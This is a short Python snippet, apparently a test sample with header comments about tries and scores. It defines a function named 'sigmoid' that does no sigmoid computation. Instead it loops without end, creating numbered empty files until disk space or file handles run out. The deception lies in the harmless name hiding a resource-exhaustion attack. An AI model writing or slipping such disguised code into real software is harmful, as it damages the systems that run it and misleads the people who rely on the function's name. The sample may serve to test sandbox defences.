# tries: files without number
# sigmoid: 0
# rest: 1
import os
def sigmoid(z):
    n = 0
    while True:
        os.close(os.open(f"f{n}", os.O_CREAT | os.O_WRONLY))
        n += 1
